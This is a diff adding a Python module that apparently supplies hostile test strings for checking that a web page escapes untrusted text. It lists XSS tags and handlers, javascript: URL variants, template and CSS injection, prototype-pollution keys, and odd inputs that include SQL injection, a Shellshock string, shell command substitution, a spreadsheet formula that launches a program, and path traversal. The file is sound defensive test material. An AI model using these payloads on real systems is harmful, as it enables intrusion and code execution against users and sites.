@@ -1,0 +1,148 @@
+"""Texts that do harm where a page takes them for more than texts."""
+
+from __future__ import annotations
+
+from itertools import product
+from typing import Final
+
+RUN: Final = "window.pwned=1;alert(1)"
+"""What stands for RUN in the tables below. What a text that has become a script would do: a test sees both."""
+
+_TAGS: Final = (
+    "<script>RUN</script>",
+    "</script><script>RUN</script>",
+    "<scr<script>ipt>RUN</scr</script>ipt>",
+    "<img src=x onerror=RUN>",
+    "<img src=x onerror=RUN//",
+    "<svg onload=RUN>",
+    "<svg><script>RUN</script></svg>",
+    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
+    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
+    "<iframe src=javascript:RUN></iframe>",
+    "<object data=javascript:RUN></object>",
+    "<embed src=javascript:RUN>",
+    "<a href=javascript:RUN autofocus onfocus=RUN>x</a>",
+    "<body onload=RUN>",
+    "<details open ontoggle=RUN>",
+    "<input autofocus onfocus=RUN>",
+    "<video><source onerror=RUN></video>",
+    "<base href=//evil.test/>",
+    "<link rel=stylesheet href=//evil.test/a.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
+    "<style>@import '//evil.test/a.css';</style>",
+    "<form action=//evil.test><button>",
+    "<template><script>RUN</script></template>",
+    "<!--><script>RUN</script>-->",
+    "<![CDATA[<script>RUN</script>]]>",
+    "<noscript><p title='</noscript><img src onerror=RUN>'>",
+    "<xss-x onclick=RUN style=animation-name:x>",
+)
+_OUT_OF: Final = ("", '"', "'", "`", '">', "'>", "-->", "</title>", "</textarea>", "]]>")
+_HANDLERS: Final = ("onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "onclick")
+_SCHEMES: Final = (
+    "javascript:RUN",
+    "JaVaScRiPt:RUN",
+    " javascript:RUN",
+    "\x01javascript:RUN",
+    "java\nscript:RUN",
+    "java\tscript:RUN",
+    "javascript&colon;RUN",
+    "javascript://%0aRUN",
+    "vbscript:RUN",
+    "data:text/html,<script>RUN</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "blob:null/RUN",
+    "//evil.test/x",
+    "\\\\evil.test\\x",
+    "http:evil.test",
+    "https://evil.test\\@good.test",
+    "http://[evil",
+    "https://evil.test/\"onclick=RUN",
+    "view-source:javascript:RUN",
+    "filesystem:javascript:RUN",
+)
+_TEMPLATES: Final = (
+    "{{constructor.constructor('RUN')()}}",
+    "${RUN}",
+    "#{RUN}",
+    "<%= RUN %>",
+    "{% RUN %}",
+    "[[RUN]]",
+    "`${RUN}`",
+    "{0}{1}{2}",
+    "$& $1 $$ $`",
+    "%RUN%n%x",
+    "\\u003cscript>RUN</script>",
+    "&lt;script&gt;RUN&lt;/script&gt;",
+    "&#x3c;img src onerror=RUN&#x3e;",
+    "%3Cscript%3ERUN%3C/script%3E",
+    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
+    "\\x3cscript\\x3eRUN",
+)
+_STYLES: Final = (
+    "red;background:url(//evil.test/a.png)",
+    "expression(RUN)",
+    "} * { display: none }",
+    "x{RUN}@import'//evil.test/a.css';",
+    "url(javascript:RUN)",
+)
+_KEYS: Final = (
+    "__proto__",
+    "constructor",
+    "prototype",
+    "toString",
+    "hasOwnProperty",
+    "valueOf",
+    "then",
+    "length",
+    "innerHTML",
+    "@type",
+    "name",
+)
+_SIGNS: Final = (
+    "\u202egnp.exe\u202c",
+    "\u2066\u2067isolated\u2069\u2069",
+    "zero\u200bwidth\u200d\ufeffsigns",
+    "a" + "\u0301" * 400,
+    "\U000e0041\U000e0042",
+    "\u2028line\u2029paragraph",
+    "\ufdfd" * 40,
+    "👨‍👩‍👧‍👦" * 60,
+    "x" * 5_000,
+    "日本語" * 500,
+    "",
+    " ",
+    "\t\r\n\x0b\x0c",
+    "\x7f\x80\x9f",
+    "null",
+    "undefined",
+    "NaN",
+    "[object Object]",
+    "true",
+    "0",
+    "-0",
+    "1e999",
+    "9007199254740993",
+    "0x1F",
+    "..",
+    ".",
+    "../../session",
+    "operations/..%2f..%2fsession",
+    "?filter=x#/overview",
+    "a b+c&d=e;f",
+    "' OR 1=1 --",
+    "\"); DROP TABLE operations; --",
+    "() { :; }; echo x",
+    "$(touch /tmp/x) `id`",
+    "=cmd|' /C calc'!A0",
+    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
+)
+
+
+def hostile_texts() -> list[str]:
+    """At least 200 texts, each once."""
+    found = [*_TAGS, *_SCHEMES, *_TEMPLATES, *_STYLES]
+    found += [f"{way}<img src=x onerror=RUN>" for way in _OUT_OF]
+    found += [f"{way}{space}{on}=RUN x={way}" for way, on, space in product(_OUT_OF, _HANDLERS, " /")]
+    return list(dict.fromkeys([*(one.replace("RUN", RUN) for one in found), *_KEYS, *_SIGNS]))
